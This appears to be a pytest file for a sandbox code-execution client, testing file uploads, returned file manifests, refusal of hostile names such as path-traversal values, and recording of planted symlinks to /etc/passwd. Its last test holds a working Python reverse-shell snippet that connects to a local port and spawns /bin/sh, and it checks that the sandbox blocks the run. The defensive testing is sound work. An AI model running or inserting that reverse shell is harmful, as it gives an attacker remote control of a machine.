"""Files in and out through mai_sandbox.Client against a real `mai-sandbox
serve`: files= by content and by path (a file and a directory), the
manifest as FileEntry objects with the returned bytes, /tmp when asked,
hostile names and sources refused before anything is sent, what the code
planted recorded and never followed, and the same on Docker where a daemon
and the image are (skipped, saying why, elsewhere)."""
import asyncio
import dataclasses
import hashlib
import os
import pathlib

import pytest

from conftest import check_schema, credentials
from test_docker import WHY as NO_DOCKER

from mai_sandbox import AsyncClient, Blocked, FileEntry, UsageError

WRITER = (
    "import os\n"
    "print(open('/sandbox/data.csv').read(), end='')\n"
    "print(sorted(os.listdir('/sandbox/in')))\n"
    "open('/sandbox/in/sub/b.txt', 'a').write('changed')\n"
    "os.makedirs('/sandbox/out')\n"
    "open('/sandbox/out/plot.txt', 'w').write('plot')\n"
    "open('/tmp/t.txt', 'w').write('tmp')\n"
)


def sha(data):
    return hashlib.sha256(data).hexdigest()


@pytest.fixture()
def local_dir(tmp_path):
    d = tmp_path / "inputs"
    (d / "sub").mkdir(parents=True)
    (d / "a.txt").write_bytes(b"aaa")
    (d / "sub" / "b.txt").write_bytes(b"bee\n")
    return d


@pytest.mark.parametrize("backend", ["native", "docker"])
def test_inputs_by_content_and_path_and_files_back(client, local_dir, backend):
    if backend == "docker" and NO_DOCKER:
        pytest.skip(NO_DOCKER)
    result = client.run(WRITER, backend=backend, collect_tmp=True, return_contents=True,
                        files={"data.csv": b"x,y\n1,2\n", "in": local_dir})
    check_schema(result)
    ex = result.execution
    assert ex.backend == backend
    assert result.stdout == b"x,y\n1,2\n['a.txt', 'sub']\n", result.stderr
    files = {f.path: f for f in ex.files}
    assert set(files) == {"/sandbox/in/sub/b.txt", "/sandbox/out/plot.txt", "/tmp/t.txt"}
    assert all(isinstance(f, FileEntry) for f in ex.files)
    plot = files["/sandbox/out/plot.txt"]
    assert (plot.kind, plot.size, plot.sha256, plot.content) == ("file", 4, sha(b"plot"), b"plot")
    assert not plot.changed_input and plot.links == 1 and plot.link_target is None
    changed = files["/sandbox/in/sub/b.txt"]
    assert changed.changed_input and changed.content == b"bee\nchanged"
    assert files["/tmp/t.txt"].content == b"tmp"
    assert ex.files_unlisted == 0 and ex.files_note == ""
    with pytest.raises(dataclasses.FrozenInstanceError):
        plot.content = b"other"


def test_without_contents_the_listing_still_comes(client):
    result = client.run("open('/sandbox/out.bin', 'wb').write(b'\\x00' * 10)\n"
                        "open('/tmp/t', 'w').write('not listed')\n")
    [entry] = result.execution.files
    assert result.files == result.execution.files  # the shortcut
    assert entry.path == "/sandbox/out.bin"
    assert entry.sha256 == sha(b"\0" * 10)
    assert entry.content is None


def test_planted_files_are_recorded_not_followed(client):
    result = client.run(
        "import os\n"
        "os.symlink('/etc/passwd', '/sandbox/passwd')\n"
        "os.mkfifo('/sandbox/fifo')\n"
        "open(b'/sandbox/\\xff.bin', 'wb').write(b'raw')\n"
        "open('/sandbox/t', 'w').write('t')\n"
        "os.link('/sandbox/t', '/sandbox/hard')\n", return_contents=True)
    check_schema(result)
    files = {f.path: f for f in result.execution.files}
    link = files["/sandbox/passwd"]
    assert (link.kind, link.link_target, link.sha256, link.content) == (
        "symlink", "/etc/passwd", None, None)
    assert files["/sandbox/fifo"].kind == "fifo" and files["/sandbox/fifo"].content is None
    assert files["/sandbox/hard"].links == 2 and files["/sandbox/hard"].content == b"t"
    [raw] = [f for f in result.execution.files if f.path.endswith(".bin")]
    assert os.fsencode(raw.path) == b"/sandbox/\xff.bin"  # the exact bytes round-trip
    assert raw.content == b"raw"


def test_hostile_names_and_sources_are_refused_before_sending(client, tmp_path):
    link = tmp_path / "link"
    link.symlink_to("/etc/passwd")
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    cases = [
        ({"../escape": b"x"}, "'..'"),
        ({"/etc/evil": b"x"}, "absolute"),
        ({"a/../../b": b"x"}, "'..'"),
        ({"main.py": b"x"}, "code"),
        ({"a": b"1", "a/b": b"2"}, "is an input file too"),
        ({"x": "text is ambiguous"}, "pathlib.Path"),
        ({"x": link}, "symbolic link"),
        ({"x": fifo}, "not a regular file"),
        ({"x": tmp_path / "missing"}, "No such file"),
        ({"a=b": tmp_path}, "'='"),
        ({1: b"x"}, "names are str"),
        ([("a", b"x")], "mapping"),
    ]
    for files, why in cases:
        with pytest.raises(UsageError) as caught:
            client.run("print('ran')\n", files=files)
        assert why in str(caught.value), (files, str(caught.value))
    # The connection is still good.
    assert client.run("print('ok')\n", files={"f": b"1"}).stdout == b"ok\n"


def test_a_local_path_that_is_not_utf8_is_read(client, tmp_path):
    raw = os.fsencode(tmp_path) + b"/\xff.txt"
    with open(raw, "wb") as f:
        f.write(b"odd")
    result = client.run("print(open('/sandbox/odd.txt').read())\n",
                        files={"odd.txt": pathlib.Path(os.fsdecode(raw))})
    assert result.stdout == b"odd\n", result.stderr


def test_async_client_takes_files_too(served, pki):
    async def main():
        async with AsyncClient(served.address, **credentials(pki)) as c:
            return await c.run("print(open('/sandbox/in.txt').read())\n"
                               "open('/sandbox/o', 'w').write('o')\n",
                               files={"in.txt": b"async"}, return_contents=True)
    result = asyncio.run(main())
    assert result.stdout == b"async\n"
    assert [(f.path, f.content) for f in result.execution.files] == [("/sandbox/o", b"o")]


def test_a_harmful_program_among_the_files_blocks_the_run(client):
    helper = (b"import os, pty, socket\n"
              b"def go():\n"
              b"    s = socket.socket()\n"
              b"    s.connect(('127.0.0.1', 4444))\n"
              b"    os.dup2(s.fileno(), 0)\n"
              b"    pty.spawn('/bin/sh')\n")
    with pytest.raises(Blocked) as caught:
        client.run("import helper\n", files={"helper.py": helper, "notes.txt": b"pty.spawn\n"})
    a = caught.value.assessment
    assert a.level == "BLOCKED"
    assert [i.name for i in a.inputs] == ["helper.py"]
    assert a.inputs[0].sha256 == sha(helper) and a.inputs[0].level == "BLOCKED"
    assert "helper.py" in {f.file for f in a.findings if f.level == "BLOCKED"}
    assert "helper.py" in caught.value.explanation
    check_schema(caught.value.result)
